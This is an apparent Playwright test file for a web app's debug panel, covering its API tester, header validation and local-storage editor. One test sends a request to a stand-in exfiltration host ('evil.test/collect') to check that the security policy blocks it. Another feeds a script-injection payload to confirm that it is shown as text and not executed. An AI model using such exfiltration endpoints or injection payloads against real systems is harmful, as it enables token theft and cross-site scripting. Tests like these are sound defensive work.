import type { Page } from '@playwright/test';
import { newAccount } from '../../fixtures/people/accounts.ts';
import { signIn } from '../../fixtures/people/sign-in.ts';
import { expect, test } from '../../fixtures/test.ts';

test.use({ expectedErrors: /Failed to load resource|Content Security Policy/ });

const panel = (page: Page) => page.getByRole('dialog', { name: 'Debug panel' });
const response = (page: Page) => page.getByLabel('Response', { exact: true });

async function open(page: Page, tab: string) {
  await page.getByRole('button', { name: 'Debug panel' }).click();
  await panel(page).getByRole('tab', { name: tab }).click();
}

test('the panel is loaded when it is first opened, and closes on a second press on its tab', async ({
  page,
}) => {
  const fetched: string[] = [];
  page.on('request', (request) => fetched.push(request.url()));
  await page.goto('/projects');
  await expect(page.getByRole('button', { name: 'Debug panel' })).toBeVisible();
  expect(fetched.filter((url) => url.includes('debug-panel'))).toEqual([]);

  await page.keyboard.press('Shift+D');
  await expect(panel(page)).toBeVisible();
  const tab = await page.locator('[aria-label="Debug panel"][aria-expanded]').boundingBox();
  const { x = 0, y = 0, width = 0, height = 0 } = tab ?? {};
  await page.mouse.click(x + width / 2, y + height / 2);
  await expect(panel(page)).toBeHidden();
  await page.getByRole('searchbox').first().fill('');
  await page.getByRole('searchbox').first().press('Shift+D');
  await expect(page.getByRole('searchbox').first()).toHaveValue('D');
  await expect(panel(page)).toBeHidden();
});

test('the tester shows responses as text, sends the token to no other origin and confirms writes; a session broken in the storage editor leads to the prompt to sign in', async ({
  page,
}) => {
  const person = await newAccount();
  await signIn(page, person, '/dashboard/client/browse');
  await expect(page.getByRole('heading', { level: 1, name: 'Browse Developers' })).toBeVisible();
  await open(page, 'API Test');
  for (const table of ['users', 'projects', 'services']) {
    await panel(page).getByRole('button', { name: table, exact: true }).click();
    await expect(panel(page).getByRole('status').filter({ hasText: table })).toContainText(
      'Success',
    );
    const rows: unknown = JSON.parse(await response(page).innerText());
    expect(rows).toHaveLength(5);
  }

  const url = panel(page).getByLabel('URL');
  const send = panel(page).getByRole('button', { name: 'Send request' });
  await url.fill('https://evil.test/collect');
  await send.click();
  await expect(
    page.getByText("This site's security policy blocks requests to https://evil.test."),
  ).toBeVisible();
  await expect(panel(page).getByText('Error', { exact: true })).toBeVisible();

  await page.route('**/rest/v1/strange', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<script>window.isHacked = true</script>' }),
  );
  await url.fill('/rest/v1/strange');
  const request = page.waitForRequest('**/rest/v1/strange');
  await send.click();
  expect((await request).headers().authorization).toMatch(/^Bearer eyJ/);
  await expect(response(page).last()).toHaveText('<script>window.isHacked = true</script>');
  expect(await page.evaluate(() => 'isHacked' in window)).toBe(false);

  await panel(page).getByLabel('Method').click();
  await page.getByRole('option', { name: 'DELETE' }).click();
  await panel(page).getByLabel('URL').fill('/rest/v1/users');
  await panel(page).getByLabel('Headers (JSON)').fill('{ Prefer');
  await panel(page).getByRole('button', { name: 'Send request' }).click();
  await expect(panel(page).getByRole('alert')).toContainText("The headers aren't valid JSON: ");

  await panel(page).getByLabel('Headers (JSON)').fill('');
  await panel(page).getByRole('button', { name: 'Send request' }).click();
  await page.getByRole('alertdialog').getByRole('button', { name: 'Send', exact: true }).click();
  await expect(panel(page).getByText(/^(400|401|403) /)).toBeVisible();
  await expect(panel(page).getByText('Error', { exact: true }).last()).toBeVisible();

  await panel(page).getByRole('tab', { name: 'Local Storage' }).click();
  await panel(page).getByRole('button', { name: 'Edit bolt-showcase-session' }).click();
  await panel(page).getByLabel('Value of bolt-showcase-session').fill('{ broken');
  await panel(page).getByRole('button', { name: 'Save' }).click();

  const signInDialog = page.getByRole('dialog', { name: 'Sign in again' });
  await expect(signInDialog).toBeVisible();
  await signInDialog.getByLabel('Password', { exact: true }).fill(person.password);
  await signInDialog.getByRole('button', { name: 'Sign in', exact: true }).click();
  await expect(page.getByRole('banner').getByRole('button', { name: 'Sign Out' })).toBeVisible();
});
